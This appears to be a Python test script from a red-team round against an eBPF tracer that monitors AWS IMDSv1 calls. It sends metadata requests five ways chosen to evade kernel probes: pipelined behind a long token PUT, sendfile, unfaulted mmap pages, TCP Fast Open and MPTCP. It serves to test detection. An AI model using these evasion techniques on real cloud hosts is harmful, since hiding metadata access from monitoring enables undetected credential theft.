#!/usr/bin/env python3
"""IMDSv1 calls sent the ways a local user would use to keep them from the tracer (issue 16's
attack round), one per argument: `pipelined` (a token PUT whose body is longer than the
kernel copies of a send, then a v1 GET in the same send), `sendfile` (the request sent from
a file with sendfile(2): the kernel program cannot read the page-backed iterator), `mmap`
(the request in a file page mapped but never touched: bpf_probe_read_user cannot fault it
in, the kernel's own copy can), `fastopen` (TCP Fast Open without a cookie: the request
rides in the SYN, and no tcp_sendmsg_locked copy-loop pass ever runs for it), `mptcp` (a
Multipath TCP socket, unprivileged where net.mptcp.enabled=1, the default: mptcp_sendmsg
builds the subflow's segments itself and never calls tcp_sendmsg, even when IMDS does not
speak MPTCP and the connection falls back to plain TCP).

Prints one line per mode: the mode and the status of each response received, e.g.
`pipelined 200 200`. Every v1 GET asks for `...?hidden-<mode>`. Standard library only.
"""
import mmap
import os
import re
import socket
import sys
import tempfile

IMDS = ("169.254.169.254", 80)
TCP_FASTOPEN_CONNECT = 30
TCP_FASTOPEN_NO_COOKIE = 34
IPPROTO_MPTCP = 262


def v1(mode):
    return (
        f"GET /latest/meta-data/instance-id?hidden-{mode} HTTP/1.1\r\n"
        "Host: 169.254.169.254\r\nConnection: close\r\n\r\n"
    ).encode()


def statuses(sock):
    sock.settimeout(5)
    data = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        if not chunk:
            break
        data += chunk
    sock.close()
    # A status line may follow a body with no line break (a token has none).
    return [m.decode() for m in re.findall(rb"HTTP/1\.[01] (\d{3}) ", data)]


def pipelined():
    body = b"x" * 3000
    put = (
        b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\n"
        b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\nContent-Length: %d\r\n\r\n" % len(body)
    ) + body
    s = socket.create_connection(IMDS)
    s.sendall(put + v1("pipelined"))
    # The token itself is not printed: only statuses.
    return statuses(s)


def sendfile():
    with tempfile.TemporaryFile() as f:
        req = v1("sendfile")
        f.write(req)
        f.flush()
        s = socket.create_connection(IMDS)
        os.sendfile(s.fileno(), f.fileno(), 0, len(req))
        return statuses(s)


def mmap_():
    with tempfile.TemporaryFile() as f:
        req = v1("mmap")
        f.write(req.ljust(mmap.PAGESIZE, b"\0"))
        f.flush()
        m = mmap.mmap(f.fileno(), mmap.PAGESIZE, prot=mmap.PROT_READ)
        s = socket.create_connection(IMDS)
        # A memoryview passes the mapping's address to send(2) without touching the page.
        s.send(memoryview(m)[: len(req)])
        return statuses(s)


def fastopen():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect(IMDS)
    s.send(v1("fastopen"))
    return statuses(s)


def mptcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    s.connect(IMDS)
    s.sendall(v1("mptcp"))
    return statuses(s)


MODES = {
    "pipelined": pipelined,
    "sendfile": sendfile,
    "mmap": mmap_,
    "fastopen": fastopen,
    "mptcp": mptcp,
}

if __name__ == "__main__":
    for mode in sys.argv[1:]:
        print(mode, *MODES[mode](), flush=True)
